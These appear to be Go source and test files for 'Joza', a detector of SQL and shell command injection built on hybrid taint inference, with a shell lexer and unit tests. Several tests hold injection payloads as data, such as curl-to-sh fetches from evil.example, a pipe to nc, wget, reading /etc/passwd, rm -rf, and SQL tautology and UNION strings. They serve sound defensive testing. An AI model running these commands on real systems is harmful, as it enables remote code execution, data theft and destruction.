	return isIdentStart(c) || (c >= '0' && c <= '9')
}

func isFormatVerb(c byte) bool {
	switch c {
	case 's', 'd', 'f', 'u', 'x', 'X', 'b', 'o', 'e', 'g', 'c':
		return true
	}
	return false
}
