package oscmd

import (
	"context"
	"errors"
	"strings"
	"testing"
)

func TestCheckContextPreCanceled(t *testing.T) {
	g := appGuard()
	ctx, cancel := context.WithCancel(context.Background())
	cancel()
	_, err := g.CheckContext(ctx, "nslookup example.com", inputsOf("example.com"))
	if !errors.Is(err, context.Canceled) {
		t.Fatalf("err = %v, want context.Canceled", err)
	}
}

func TestCheckContextMatchesCheck(t *testing.T) {
	g := appGuard()
	payload := "example.com; cat /etc/passwd"
	cmd := "nslookup -timeout=2 " + payload
	want := g.Check(cmd, inputsOf(payload))
	got, err := g.CheckContext(context.Background(), cmd, inputsOf(payload))
	if err != nil {
		t.Fatal(err)
	}
	if got.Attack != want.Attack || got.NTI.Attack != want.NTI.Attack || got.PTI.Attack != want.PTI.Attack {
		t.Errorf("ctx verdict = %+v, plain = %+v", got, want)
	}
}

func TestCheckContextCanceledMidNTI(t *testing.T) {
	// A command long enough for the matcher to reach its polling
	// checkpoint: cancellation surfaces from inside the NTI stage.
	g := appGuard()
	payload := strings.Repeat("abcdefgh", 100)
	cmd := "nslookup -timeout=2 " + payload
	ctx, cancel := context.WithCancel(context.Background())
	cancel()
	_, err := g.CheckContext(ctx, cmd, inputsOf("zzz"+payload[:50]))
	if !errors.Is(err, context.Canceled) {
		t.Fatalf("err = %v, want context.Canceled", err)
	}
}
