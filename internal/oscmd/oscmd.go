// Package oscmd applies Joza's hybrid taint inference to OS command
// injection — the attack class positive taint inference was originally
// developed for (the paper's reference [22]) and which the Joza paper
// generalizes to SQL. Providing both closes the loop: the same hybrid
// model, over a shell-command token stream instead of a SQL one.
//
// The threat model mirrors the SQL case: a program builds a command line
// from trusted program text plus untrusted input. An injection occurs when
// input contributes a critical shell token — a command separator (;, &&,
// ||, |, &, newline), a redirection (>, <, >>), command substitution
// (`...` or $(...)), a subshell, or the command word of a new pipeline
// segment.
//
//   - NTI: approximate-match raw inputs against the command line; a
//     critical token derived from input is an attack.
//   - PTI: trust only fragments extracted from the program; a critical
//     token not contained in a single fragment is an attack.
//   - Hybrid: safe iff both agree.
package oscmd

import (
	"context"
	"strings"

	"joza/internal/core"
	"joza/internal/engine"
	"joza/internal/nti"
	"joza/internal/sqltoken"
	"joza/internal/strdist"
)

// TokenKind classifies shell tokens.
type TokenKind int

// Shell token kinds.
const (
	// KindWord is a plain word (argument or command name).
	KindWord TokenKind = iota + 1
	// KindCommandWord is the first word of a pipeline segment — the
	// program that will execute.
	KindCommandWord
	// KindOperator is a control or redirection operator.
	KindOperator
	// KindString is a quoted string ('...' or "...").
	KindString
	// KindSubstitution is `...` or $(...) command substitution, treated
	// as one critical token like SQL comments are.
	KindSubstitution
	// KindVariable is a $name or ${name} reference.
	KindVariable
)

// String returns the kind name.
func (k TokenKind) String() string {
	switch k {
	case KindWord:
		return "word"
	case KindCommandWord:
		return "command"
	case KindOperator:
		return "operator"
	case KindString:
		return "string"
	case KindSubstitution:
		return "substitution"
	case KindVariable:
		return "variable"
	default:
		return "unknown"
	}
}

// Token is one shell token with its byte span.
type Token struct {
	Kind  TokenKind
	Text  string
	Start int
	End   int
}

// Critical reports whether the token can change what gets executed:
// operators, substitutions, and command words.
func (t Token) Critical() bool {
	switch t.Kind {
	case KindOperator, KindSubstitution, KindCommandWord:
		return true
	default:
		return false
	}
}

// Lex tokenizes a shell command line. Like the SQL lexer it never fails:
// malformed input yields best-effort tokens, because a defense must reason
// about deliberately malformed commands.
func Lex(cmd string) []Token {
	var toks []Token
	i := 0
	commandPosition := true // next word is a command name
	emit := func(kind TokenKind, start, end int) {
		toks = append(toks, Token{Kind: kind, Text: cmd[start:end], Start: start, End: end})
	}
	for i < len(cmd) {
		c := cmd[i]
		switch {
		case c == ' ' || c == '\t':
			i++
		case c == '\n' || c == ';':
			emit(KindOperator, i, i+1)
			i++
			commandPosition = true
		case c == '&' || c == '|':
			start := i
			if i+1 < len(cmd) && cmd[i+1] == c {
				i += 2
			} else {
				i++
			}
			emit(KindOperator, start, i)
			commandPosition = true
		case c == '>' || c == '<':
			start := i
			if c == '>' && i+1 < len(cmd) && cmd[i+1] == '>' {
				i += 2
			} else {
				i++
			}
			emit(KindOperator, start, i)
		case c == '(' || c == ')' || c == '{' && isolatedBrace(cmd, i) || c == '}' && isolatedBrace(cmd, i):
			emit(KindOperator, i, i+1)
			i++
			if c == '(' || c == '{' {
				commandPosition = true
			}
		case c == '`':
			start := i
			i++
			for i < len(cmd) && cmd[i] != '`' {
				i++
			}
			if i < len(cmd) {
				i++
			}
			emit(KindSubstitution, start, i)
		case c == '$' && i+1 < len(cmd) && cmd[i+1] == '(':
			start := i
			depth := 0
			for i < len(cmd) {
				if cmd[i] == '(' {
					depth++
				} else if cmd[i] == ')' {
					depth--
					if depth == 0 {
						i++
						break
					}
				}
				i++
			}
			emit(KindSubstitution, start, i)
		case c == '$':
			start := i
			i++
			if i < len(cmd) && cmd[i] == '{' {
				for i < len(cmd) && cmd[i] != '}' {
					i++
				}
				if i < len(cmd) {
					i++
				}
			} else {
				for i < len(cmd) && isNameByte(cmd[i]) {
					i++
				}
			}
			emit(KindVariable, start, i)
		case c == '\'' || c == '"':
			start := i
			quote := c
			i++
			for i < len(cmd) {
				if cmd[i] == '\\' && quote == '"' && i+1 < len(cmd) {
					i += 2
					continue
				}
				if cmd[i] == quote {
					i++
					break
				}
				i++
			}
			emit(KindString, start, i)
			commandPosition = false
		default:
			start := i
			for i < len(cmd) && !isBreakByte(cmd[i]) {
				if cmd[i] == '\\' && i+1 < len(cmd) {
					i++
				}
				i++
			}
			kind := KindWord
			if commandPosition {
				kind = KindCommandWord
				commandPosition = false
			}
			emit(kind, start, i)
		}
	}
	return toks
}

func isolatedBrace(cmd string, i int) bool {
	// Heuristic: a brace is a control operator only when surrounded by
	// whitespace/edges (as in `{ cmd; }`), not inside words like file{1}.
	before := i == 0 || cmd[i-1] == ' ' || cmd[i-1] == '\t' || cmd[i-1] == ';'
	after := i+1 >= len(cmd) || cmd[i+1] == ' ' || cmd[i+1] == '\t' || cmd[i+1] == ';'
	return before && after
}

func isNameByte(c byte) bool {
	return c == '_' || (c >= 'a' && c <= 'z') || (c >= 'A' && c <= 'Z') || (c >= '0' && c <= '9')
}

func isBreakByte(c byte) bool {
	switch c {
	case ' ', '\t', '\n', ';', '&', '|', '>', '<', '`', '$', '\'', '"', '(', ')':
		return true
	}
	return false
}

// coversWholeToken reports whether [start, end) fully contains a token.
func coversWholeToken(toks []Token, start, end int) bool {
	for _, t := range toks {
		if t.Start >= start && t.End <= end {
			return true
		}
	}
	return false
}

// Guard is the hybrid command-injection detector. Construct with New.
// Like the SQL Guard it is a thin front door over the shared
// internal/engine pipeline: a shell-PTI stage followed by a shell-NTI
// stage, both reading one token stream lexed once per check.
type Guard struct {
	fragments []string
	threshold float64
	eng       *engine.Engine
}

// Option configures a Guard.
type Option func(*Guard)

// WithThreshold sets the NTI difference-ratio threshold (default 0.20).
func WithThreshold(t float64) Option {
	return func(g *Guard) { g.threshold = t }
}

// New builds a Guard over the program's trusted command fragments (string
// literals that participate in command construction). Fragments that
// contain no critical shell token are dropped; empty strings and
// duplicates likewise.
func New(fragments []string, opts ...Option) *Guard {
	g := &Guard{threshold: nti.DefaultThreshold}
	seen := make(map[string]bool, len(fragments))
	for _, f := range fragments {
		if f == "" || seen[f] {
			continue
		}
		seen[f] = true
		if !containsShellToken(f) {
			continue
		}
		g.fragments = append(g.fragments, f)
	}
	for _, o := range opts {
		o(g)
	}
	g.eng = engine.New(&engine.Snapshot{
		Analyzers: []engine.Analyzer{shellPTIStage{g: g}, shellNTIStage{g: g}},
	})
	return g
}

// containsShellToken reports whether s contributes anything a critical
// token could need: any word, operator or substitution. (Unlike SQL, a
// plain word is retainable: it may be a command name.)
func containsShellToken(s string) bool {
	return len(Lex(s)) > 0
}

// FragmentCount returns the retained trusted fragment count.
func (g *Guard) FragmentCount() int { return len(g.fragments) }

// Check analyzes a command line against the request's raw inputs and
// returns the hybrid verdict. It is the context-free compatibility
// wrapper around CheckContext; with a background context the pipeline
// cannot fail, so no error is returned.
func (g *Guard) Check(cmd string, inputs []nti.Input) core.Verdict {
	v, _ := g.CheckContext(context.Background(), cmd, inputs)
	return v
}

// CheckContext analyzes a command line bounded by ctx: cancellation
// aborts the NTI matcher mid-analysis and ctx's error comes back with
// no verdict recorded.
func (g *Guard) CheckContext(ctx context.Context, cmd string, inputs []nti.Input) (core.Verdict, error) {
	return g.eng.Check(ctx, engine.Request{Query: cmd, Inputs: inputs})
}

// shellTokens returns the check's lexed token stream, lexing on first
// use and sharing it across stages through the engine state's aux slot.
func shellTokens(req engine.Request, st *engine.State) []Token {
	if toks, ok := st.Aux().([]Token); ok {
		return toks
	}
	toks := Lex(req.Query)
	st.SetAux(toks)
	return toks
}

// shellPTIStage is the engine stage for shell positive taint inference.
type shellPTIStage struct{ g *Guard }

// Name implements engine.Analyzer.
func (s shellPTIStage) Name() string { return core.AnalyzerPTI }

// Analyze implements engine.Analyzer.
func (s shellPTIStage) Analyze(ctx context.Context, req engine.Request, st *engine.State) (core.Result, error) {
	if ctx.Done() != nil {
		if err := ctx.Err(); err != nil {
			return core.Result{}, err
		}
	}
	return s.g.analyzePTI(req.Query, shellTokens(req, st)), nil
}

// shellNTIStage is the engine stage for shell negative taint inference.
type shellNTIStage struct{ g *Guard }

// Name implements engine.Analyzer.
func (s shellNTIStage) Name() string { return core.AnalyzerNTI }

// Analyze implements engine.Analyzer.
func (s shellNTIStage) Analyze(ctx context.Context, req engine.Request, st *engine.State) (core.Result, error) {
	return s.g.analyzeNTI(ctx, req.Query, shellTokens(req, st), req.Inputs)
}

// analyzePTI requires every critical token to sit inside a single trusted
// fragment occurrence.
func (g *Guard) analyzePTI(cmd string, toks []Token) core.Result {
	res := core.Result{Analyzer: core.AnalyzerPTI}
	for _, t := range toks {
		if !t.Critical() {
			continue
		}
		if !g.covered(cmd, t) {
			res.Reasons = append(res.Reasons, core.Reason{
				Token:  toSQLToken(t),
				Detail: "critical shell token not contained in any trusted fragment",
			})
		}
	}
	res.Attack = len(res.Reasons) > 0
	return res
}

// covered reports whether some fragment occurrence fully contains the
// token.
func (g *Guard) covered(cmd string, t Token) bool {
	for _, f := range g.fragments {
		if len(f) < t.End-t.Start {
			continue
		}
		from := 0
		for {
			idx := strings.Index(cmd[from:], f)
			if idx < 0 {
				break
			}
			start := from + idx
			if start <= t.Start && t.End <= start+len(f) {
				return true
			}
			from = start + 1
		}
	}
	return false
}

// analyzeNTI approximate-matches inputs against the command line. ctx
// cancellation aborts the edit-distance matcher between DP columns.
func (g *Guard) analyzeNTI(ctx context.Context, cmd string, toks []Token, inputs []nti.Input) (core.Result, error) {
	res := core.Result{Analyzer: core.AnalyzerNTI}
	for _, in := range inputs {
		if in.Value == "" {
			continue
		}
		m, err := strdist.SubstringMatchCtx(ctx, in.Value, cmd)
		if err != nil {
			return core.Result{Analyzer: core.AnalyzerNTI}, err
		}
		if m.Ratio() >= g.threshold {
			continue
		}
		if !coversWholeToken(toks, m.Start, m.End) {
			continue
		}
		res.Markings = append(res.Markings, core.Marking{
			Span:     spanOf(m.Start, m.End),
			Source:   in.Key(),
			Distance: m.Distance,
		})
		for _, t := range toks {
			if t.Critical() && m.Start <= t.Start && t.End <= m.End {
				res.Reasons = append(res.Reasons, core.Reason{
					Token:  toSQLToken(t),
					Detail: "critical shell token negatively tainted by input " + in.Key(),
				})
			}
		}
	}
	res.Attack = len(res.Reasons) > 0
	return res, nil
}

// toSQLToken adapts a shell token into the shared reason structure. The
// core package's Reason carries a sqltoken.Token; shell kinds map onto the
// closest SQL kinds (operators stay operators, substitutions — like SQL
// comments — are single opaque critical blobs, command words act as
// keywords).
func toSQLToken(t Token) sqltoken.Token {
	kind := sqltoken.KindInvalid
	switch t.Kind {
	case KindOperator:
		kind = sqltoken.KindOperator
	case KindSubstitution:
		kind = sqltoken.KindComment
	case KindCommandWord:
		kind = sqltoken.KindKeyword
	case KindWord:
		kind = sqltoken.KindIdent
	case KindString:
		kind = sqltoken.KindString
	case KindVariable:
		kind = sqltoken.KindVariable
	}
	return sqltoken.Token{Kind: kind, Text: t.Text, Start: t.Start, End: t.End}
}

// spanOf builds a byte span.
func spanOf(start, end int) sqltoken.Span {
	return sqltoken.Span{Start: start, End: end}
}
