package oscmd

import (
	"strings"
	"testing"
	"testing/quick"

	"joza/internal/nti"
)

func kinds(toks []Token) []TokenKind {
	out := make([]TokenKind, len(toks))
	for i, t := range toks {
		out[i] = t.Kind
	}
	return out
}

func TestLexSimpleCommand(t *testing.T) {
	toks := Lex("tar -czf backup.tar.gz /var/www")
	if len(toks) != 4 {
		t.Fatalf("tokens = %v", toks)
	}
	if toks[0].Kind != KindCommandWord || toks[0].Text != "tar" {
		t.Errorf("command word = %+v", toks[0])
	}
	for _, tok := range toks[1:] {
		if tok.Kind != KindWord {
			t.Errorf("argument lexed as %v: %+v", tok.Kind, tok)
		}
	}
}

func TestLexOperatorsStartNewCommands(t *testing.T) {
	toks := Lex("cat file; rm -rf / && echo done | mail admin")
	var commands []string
	for _, tok := range toks {
		if tok.Kind == KindCommandWord {
			commands = append(commands, tok.Text)
		}
	}
	want := []string{"cat", "rm", "echo", "mail"}
	if strings.Join(commands, " ") != strings.Join(want, " ") {
		t.Errorf("commands = %v, want %v", commands, want)
	}
}

func TestLexSubstitutions(t *testing.T) {
	toks := Lex("echo `id` and $(curl evil.example)")
	var subs []string
	for _, tok := range toks {
		if tok.Kind == KindSubstitution {
			subs = append(subs, tok.Text)
		}
	}
	if len(subs) != 2 || subs[0] != "`id`" || subs[1] != "$(curl evil.example)" {
		t.Errorf("substitutions = %v", subs)
	}
}

func TestLexQuotesAndVariables(t *testing.T) {
	toks := Lex(`grep "a b" 'c d' $HOME ${PATH}`)
	got := kinds(toks)
	want := []TokenKind{KindCommandWord, KindString, KindString, KindVariable, KindVariable}
	if len(got) != len(want) {
		t.Fatalf("kinds = %v", got)
	}
	for i := range want {
		if got[i] != want[i] {
			t.Errorf("kind %d = %v, want %v", i, got[i], want[i])
		}
	}
}

func TestLexRedirection(t *testing.T) {
	toks := Lex("sort data > out.txt 2>> log")
	var ops []string
	for _, tok := range toks {
		if tok.Kind == KindOperator {
			ops = append(ops, tok.Text)
		}
	}
	if len(ops) < 2 || ops[0] != ">" {
		t.Errorf("operators = %v", ops)
	}
}

func TestLexSpansReconstruct(t *testing.T) {
	f := func(s string) bool {
		for _, tok := range Lex(s) {
			if tok.Start < 0 || tok.End > len(s) || tok.Start >= tok.End {
				return false
			}
			if s[tok.Start:tok.End] != tok.Text {
				return false
			}
		}
		return true
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 1500}); err != nil {
		t.Error(err)
	}
}

func TestTokenKindString(t *testing.T) {
	for k, want := range map[TokenKind]string{
		KindWord: "word", KindCommandWord: "command", KindOperator: "operator",
		KindString: "string", KindSubstitution: "substitution",
		KindVariable: "variable", TokenKind(0): "unknown",
	} {
		if k.String() != want {
			t.Errorf("%d.String() = %q, want %q", k, k.String(), want)
		}
	}
}

// appGuard models a program that runs: nslookup <host>
func appGuard() *Guard {
	return New([]string{"nslookup ", "-timeout=2 "})
}

func inputsOf(value string) []nti.Input {
	return []nti.Input{{Source: "get", Name: "host", Value: value}}
}

func TestBenignCommandSafe(t *testing.T) {
	g := appGuard()
	v := g.Check("nslookup -timeout=2 example.com", inputsOf("example.com"))
	if v.Attack {
		t.Errorf("benign command flagged: %v", v.Reasons())
	}
}

func TestSeparatorInjectionDetected(t *testing.T) {
	g := appGuard()
	payload := "example.com; rm -rf /tmp"
	v := g.Check("nslookup -timeout=2 "+payload, inputsOf(payload))
	if !v.Attack {
		t.Fatal("separator injection missed")
	}
	if !v.NTI.Attack || !v.PTI.Attack {
		t.Errorf("detected by %v, want both", v.DetectedBy())
	}
}

func TestSubstitutionInjectionDetected(t *testing.T) {
	g := appGuard()
	payload := "$(curl http://evil.example/x.sh | sh)"
	v := g.Check("nslookup -timeout=2 "+payload, inputsOf(payload))
	if !v.Attack {
		t.Fatal("substitution injection missed")
	}
}

func TestBacktickInjectionDetected(t *testing.T) {
	g := appGuard()
	payload := "`id`"
	v := g.Check("nslookup -timeout=2 "+payload, inputsOf(payload))
	if !v.PTI.Attack {
		t.Fatal("backtick substitution must fail PTI")
	}
}

func TestPipeInjectionDetected(t *testing.T) {
	g := appGuard()
	payload := "example.com | nc evil.example 4444"
	v := g.Check("nslookup -timeout=2 "+payload, inputsOf(payload))
	if !v.Attack {
		t.Fatal("pipe injection missed")
	}
}

func TestSecondOrderCommandCaughtByPTI(t *testing.T) {
	// Payload arrived from storage, inputs unrelated: NTI blind, PTI not.
	g := appGuard()
	v := g.Check("nslookup -timeout=2 example.com; wget evil.example", inputsOf("unrelated"))
	if v.NTI.Attack {
		t.Error("NTI should miss (inputs unrelated)")
	}
	if !v.PTI.Attack {
		t.Error("PTI must catch the stored payload")
	}
}

func TestVocabularyCommandAttackCaughtByNTI(t *testing.T) {
	// The program's own fragments contain "; " and "sync" (it legitimately
	// chains commands), so PTI misses a tautology-style chain rebuilt from
	// them — NTI catches it because the input appears verbatim.
	g := New([]string{"nslookup ", "; ", "sync"})
	payload := "example.com; sync"
	v := g.Check("nslookup "+payload, inputsOf(payload))
	if v.PTI.Attack {
		t.Errorf("PTI should miss the vocabulary attack: %v", v.PTI.Reasons)
	}
	if !v.NTI.Attack {
		t.Error("NTI must catch the verbatim payload")
	}
	if !v.Attack {
		t.Error("hybrid must block")
	}
}

func TestFragmentFiltering(t *testing.T) {
	g := New([]string{"", "ls ", "ls ", "   ", "grep "})
	// "ls " kept once (duplicate dropped), "grep " kept; "" and the
	// all-whitespace fragment lex to no tokens and are dropped.
	if g.FragmentCount() != 2 {
		t.Errorf("fragments = %d, want 2", g.FragmentCount())
	}
}

func TestThresholdOption(t *testing.T) {
	g := New([]string{"ping "}, WithThreshold(0.5))
	if g.threshold != 0.5 {
		t.Errorf("threshold = %v", g.threshold)
	}
}

func TestArgumentInjectionNotFlagged(t *testing.T) {
	// A benign filename that merely looks odd must not trip either
	// analyzer: no critical token derives from it.
	g := appGuard()
	v := g.Check("nslookup -timeout=2 my-host.example.com", inputsOf("my-host.example.com"))
	if v.Attack {
		t.Errorf("benign hostname flagged: %v", v.Reasons())
	}
}

func TestWhitespaceStuffingEvadesNTIButNotPTI(t *testing.T) {
	// The command-injection analogue of the SQL evasion: the app trims
	// input, the attacker pads. NTI misses; PTI catches the separator.
	g := appGuard()
	payload := "example.com; reboot" + strings.Repeat(" ", 30)
	trimmed := strings.TrimSpace(payload)
	v := g.Check("nslookup -timeout=2 "+trimmed, inputsOf(payload))
	if v.NTI.Attack {
		t.Error("padded input should evade NTI")
	}
	if !v.PTI.Attack {
		t.Error("PTI must catch the separator")
	}
	if !v.Attack {
		t.Error("hybrid must block")
	}
}
