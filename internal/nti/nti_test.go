package nti

import (
	"strings"
	"testing"

	"joza/internal/strdist"
)

func inputs(kv ...string) []Input {
	var out []Input
	for i := 0; i+1 < len(kv); i += 2 {
		out = append(out, Input{Source: "get", Name: kv[i], Value: kv[i+1]})
	}
	return out
}

func TestBenignInputNotFlagged(t *testing.T) {
	// Figure 2A: benign numeric input.
	a := MustNew()
	q := "SELECT * FROM data WHERE ID=1"
	res := a.Analyze(q, nil, inputs("id", "1"))
	if res.Attack {
		t.Errorf("benign query flagged: %+v", res.Reasons)
	}
	// The input is marked (it matches) but covers no critical token.
	if len(res.Markings) == 0 {
		t.Error("expected a marking for the matching input")
	}
}

func TestTautologyDetected(t *testing.T) {
	// Figure 2B: -1 OR 1 = 1 appears verbatim; OR and = are critical.
	a := MustNew()
	payload := "-1 OR 1=1"
	q := "SELECT * FROM data WHERE ID=" + payload
	res := a.Analyze(q, nil, inputs("id", payload))
	if !res.Attack {
		t.Fatal("tautology not detected")
	}
	var texts []string
	for _, r := range res.Reasons {
		texts = append(texts, r.Token.Text)
	}
	joined := strings.Join(texts, " ")
	if !strings.Contains(joined, "OR") || !strings.Contains(joined, "=") {
		t.Errorf("reasons = %v", texts)
	}
}

func TestUnionAttackDetected(t *testing.T) {
	a := MustNew()
	payload := "-1 UNION SELECT username, password FROM users"
	q := "SELECT * FROM posts WHERE id=" + payload
	res := a.Analyze(q, nil, inputs("id", payload))
	if !res.Attack {
		t.Fatal("union attack not detected")
	}
}

func TestMagicQuotesEvasion(t *testing.T) {
	// Figure 2C: the application escapes quotes (magic quotes) inside a
	// comment block the attacker stuffed with quotes, driving the edit
	// distance above threshold. NTI must NOT match (that is the evasion).
	a := MustNew()
	payload := `-1 OR 1=1 /*'''''*/`
	// After addslashes, each ' becomes \'.
	transformed := strings.ReplaceAll(payload, `'`, `\'`)
	q := "SELECT * FROM data WHERE ID=" + transformed
	res := a.Analyze(q, nil, inputs("id", payload))
	if res.Attack {
		t.Error("NTI detected the magic-quotes evasion; the paper shows it must miss")
	}
}

func TestSmallTransformationStillMatches(t *testing.T) {
	// The application trims a single trailing space (a small
	// transformation); the ratio stays under 20% and NTI still flags OR.
	a := MustNew()
	payload := "-1 OR 1=1 "
	q := "SELECT * FROM t WHERE id=" + strings.TrimSpace(payload)
	res := a.Analyze(q, nil, inputs("id", payload))
	if !res.Attack {
		t.Error("small transformation should still match and flag OR")
	}
}

func TestShortInputNoFalsePositive(t *testing.T) {
	// Single-letter inputs like "O" and "R" must not combine into OR, and
	// a short input matching inside a token must not flag.
	a := MustNew()
	q := "SELECT * FROM data WHERE category='OR'"
	res := a.Analyze(q, nil, inputs("q1", "O", "q2", "R"))
	if res.Attack {
		t.Errorf("short inputs flagged: %+v", res.Reasons)
	}
}

func TestWholeTokenRule(t *testing.T) {
	// Input "ELEC" matches inside SELECT but covers no whole token.
	a := MustNew()
	q := "SELECT * FROM t"
	res := a.Analyze(q, nil, inputs("x", "ELEC"))
	if res.Attack {
		t.Error("partial-token match must not flag")
	}
}

func TestBase64EvasionMisses(t *testing.T) {
	// The AdRotate case: input is base64; the query contains the decoded
	// payload, so no correspondence exists and NTI misses the attack.
	a := MustNew()
	encoded := "LTEgT1IgMT0x" // base64("-1 OR 1=1")
	q := "SELECT * FROM ads WHERE id=-1 OR 1=1"
	res := a.Analyze(q, nil, inputs("track", encoded))
	if res.Attack {
		t.Error("NTI should miss base64-encoded input (paper Table II: 49/50)")
	}
}

func TestPayloadConstructionEvasion(t *testing.T) {
	// Section III-A: payload split across inputs; no single input matches
	// a whole critical token region under threshold.
	a := MustNew()
	q := "SELECT * FROM data WHERE ID=1 OR TRUE"
	res := a.Analyze(q, nil, inputs("q1", "1 OR 1=1", "q2", "R TR", "q3", "UE"))
	// "1 OR 1=1" doesn't appear (app concatenated differently)...
	// Actually "q1" has distance: best match of "1 OR 1=1" in query is
	// "1 OR TRUE" (distance 3, ratio 1/3): above threshold. q2/q3 are short
	// fragments matching inside tokens only.
	if res.Attack {
		t.Errorf("payload-construction evasion should bypass NTI: %+v", res.Reasons)
	}
}

func TestMultipleExactOccurrencesAllMarked(t *testing.T) {
	a := MustNew()
	q := "SELECT * FROM t WHERE a='x' OR b='x'"
	res := a.Analyze(q, nil, inputs("v", "x"))
	if len(res.Markings) != 2 {
		t.Errorf("markings = %d, want 2", len(res.Markings))
	}
}

func TestEmptyInputIgnored(t *testing.T) {
	a := MustNew()
	res := a.Analyze("SELECT 1", nil, inputs("empty", ""))
	if len(res.Markings) != 0 || res.Attack {
		t.Errorf("empty input produced %+v", res)
	}
}

func TestThresholdOption(t *testing.T) {
	payload := `-1 OR 1=1 /*''*/`
	transformed := strings.ReplaceAll(payload, `'`, `\'`)
	q := "SELECT * FROM data WHERE ID=" + transformed
	// Distance 2 over ~18 bytes ≈ 11%: default threshold catches it...
	strict := MustNew(WithThreshold(0.05))
	if res := strict.Analyze(q, nil, inputs("id", payload)); res.Attack {
		t.Error("strict threshold should miss")
	}
	loose := MustNew(WithThreshold(0.5))
	if res := loose.Analyze(q, nil, inputs("id", payload)); !res.Attack {
		t.Error("loose threshold should catch")
	}
	if loose.Threshold() != 0.5 {
		t.Error("Threshold() getter")
	}
}

func TestMaxInputLenSkipsQuadratic(t *testing.T) {
	a := MustNew(WithMaxInputLen(10))
	long := strings.Repeat("z", 100) + " OR 1=1"
	q := "SELECT * FROM t WHERE a=" + strings.Repeat("z", 99) + " OR 1=1"
	res := a.Analyze(q, nil, []Input{{Source: "post", Name: "c", Value: long}})
	// Input exceeds cap and is not an exact substring: skipped.
	if res.Attack {
		t.Error("capped input should be skipped by approximate matching")
	}
	// But exact occurrences still hit via the fast path.
	q2 := "SELECT * FROM t WHERE a=" + long
	res2 := a.Analyze(q2, nil, []Input{{Source: "post", Name: "c", Value: long}})
	if !res2.Attack {
		t.Error("exact long input must still be detected")
	}
}

func TestPruningLongInputVsShortQuery(t *testing.T) {
	a := MustNew()
	res := a.Analyze("SELECT 1", nil, inputs("big", strings.Repeat("a", 500)))
	if res.Attack || len(res.Markings) != 0 {
		t.Errorf("long input vs short query should be pruned: %+v", res)
	}
}

func TestWithMatcherNaive(t *testing.T) {
	a := MustNew(WithMatcher(strdist.NaiveSubstringMatch))
	payload := "-1 OR 1=2"
	q := "SELECT * FROM t WHERE id=-1 OR 1=1" // one char differs
	res := a.Analyze(q, nil, inputs("id", payload))
	if !res.Attack {
		t.Error("naive matcher should behave identically")
	}
}

func TestInputKey(t *testing.T) {
	in := Input{Source: "cookie", Name: "session", Value: "v"}
	if in.Key() != "cookie:session" {
		t.Errorf("Key = %q", in.Key())
	}
}

func TestSecondOrderMiss(t *testing.T) {
	// Second-order attack: the payload was stored earlier and replayed
	// from the database; the current request's inputs bear no relation.
	a := MustNew()
	q := "SELECT * FROM t WHERE name='x' OR 1=1 -- '"
	res := a.Analyze(q, nil, inputs("page", "about-us"))
	if res.Attack {
		t.Error("NTI must miss second-order attacks (inputs unrelated)")
	}
}
