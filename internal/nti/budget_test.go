package nti

import (
	"context"
	"errors"
	"strings"
	"testing"

	"joza/internal/core"
)

func TestMaxQueryBytesOverBudget(t *testing.T) {
	a := MustNew(WithMaxQueryBytes(1024))
	query := "SELECT * FROM t WHERE a = '" + strings.Repeat("x", 4096) + "'"
	_, err := a.AnalyzeCtx(context.Background(), query, nil,
		[]Input{{Source: "get", Name: "a", Value: "zz"}}, nil)
	if !errors.Is(err, core.ErrOverBudget) {
		t.Fatalf("err = %v, want core.ErrOverBudget", err)
	}
	// Under the cap: analysis proceeds normally.
	if _, err := a.AnalyzeCtx(context.Background(), "SELECT 1", nil,
		[]Input{{Source: "get", Name: "a", Value: "zz"}}, nil); err != nil {
		t.Fatalf("under cap: %v", err)
	}
}

func TestDPCellBudgetOverBudget(t *testing.T) {
	a := MustNew(WithDPCellBudget(1000))
	// No exact occurrence, similar lengths so the prune heuristic does not
	// fire, enough shared trigrams that the prefilter cannot reject, and
	// enough bytes that the DP blows the 1000-cell budget.
	value := strings.Repeat("cd", 299) + "zz"
	query := "SELECT * FROM t WHERE a = '" + strings.Repeat("cd", 300) + "'"
	_, err := a.AnalyzeCtx(context.Background(), query, nil,
		[]Input{{Source: "get", Name: "a", Value: value}}, nil)
	if !errors.Is(err, core.ErrOverBudget) {
		t.Fatalf("err = %v, want core.ErrOverBudget", err)
	}
}

func TestDPCellBudgetGenerousKeepsVerdicts(t *testing.T) {
	plain := MustNew()
	budgeted := MustNew(WithDPCellBudget(1 << 24))
	query := "SELECT * FROM users WHERE name = 'admin'' OR 1=1 --'"
	inputs := []Input{{Source: "get", Name: "name", Value: "admin' OR 1=1 --"}}
	want, err := plain.AnalyzeCtx(context.Background(), query, nil, inputs, nil)
	if err != nil {
		t.Fatalf("plain: %v", err)
	}
	got, err := budgeted.AnalyzeCtx(context.Background(), query, nil, inputs, nil)
	if err != nil {
		t.Fatalf("budgeted: %v", err)
	}
	if got.Attack != want.Attack {
		t.Fatalf("budgeted verdict %v != plain %v", got.Attack, want.Attack)
	}
}
