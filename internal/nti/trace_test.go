package nti

import (
	"testing"

	"joza/internal/trace"
)

// tracedSpan returns a live span from a sample-everything tracer.
func tracedSpan(t *testing.T, tr *trace.Tracer, query string) *trace.Span {
	t.Helper()
	s := tr.Start(query)
	if s == nil {
		t.Fatal("sample-everything tracer returned nil span")
	}
	return s
}

func TestAnalyzeTracedRecordsInputEvidence(t *testing.T) {
	a := MustNew()
	tr := trace.New(trace.Config{SampleEvery: 1})
	query := "SELECT * FROM records WHERE ID=-1 OR 1=1 LIMIT 5"
	inputs := []Input{
		{Source: "get", Name: "id", Value: "-1 OR 1=1"},
		{Source: "get", Name: "page", Value: "zzzzzz-no-match-zzzzzz"},
	}
	span := tracedSpan(t, tr, query)
	res := a.AnalyzeTraced(query, nil, inputs, span)
	if !res.Attack {
		t.Fatal("tautology must be an attack")
	}
	if len(span.Inputs) != 2 {
		t.Fatalf("span recorded %d inputs, want 2", len(span.Inputs))
	}
	hit := span.Inputs[0]
	if !hit.Matched || hit.Source != "get:id" {
		t.Fatalf("first input evidence = %+v", hit)
	}
	if hit.End <= hit.Start {
		t.Fatalf("matched offsets %d..%d", hit.Start, hit.End)
	}
	if query[hit.Start:hit.End] != "-1 OR 1=1" {
		t.Fatalf("tainted span %q", query[hit.Start:hit.End])
	}
	if span.Inputs[1].Matched {
		t.Fatal("non-matching input marked as matched")
	}
	if !span.Inputs[1].PrefilterRejected {
		t.Fatal("hopeless input should carry prefilter-reject evidence")
	}
	if span.NTIPrefilterNs <= 0 {
		t.Fatal("prefilter duration not accumulated")
	}
